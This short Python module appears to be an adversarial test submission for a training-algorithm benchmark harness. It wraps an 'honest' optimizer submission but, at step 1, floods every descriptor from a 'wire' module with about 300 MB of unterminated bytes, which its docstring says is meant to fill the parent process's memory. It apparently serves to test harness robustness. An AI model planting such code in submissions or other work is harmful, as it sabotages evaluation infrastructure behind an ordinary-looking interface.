"""Sends its parent a message without an end, which shall fill its memory."""

import os

import honest
from honest import data_selection, get_batch_size, init_optimizer_state

__all__ = ["data_selection", "get_batch_size", "init_optimizer_state", "update_params"]

from wire import descriptors


def update_params(workload, global_step, **arguments):
    if global_step == 1:
        for descriptor in descriptors():
            for _ in range(3000):
                os.write(descriptor, b"x" * 100_000)
            os.write(descriptor, b"\n")
    return honest.update_params(workload=workload, global_step=global_step, **arguments)
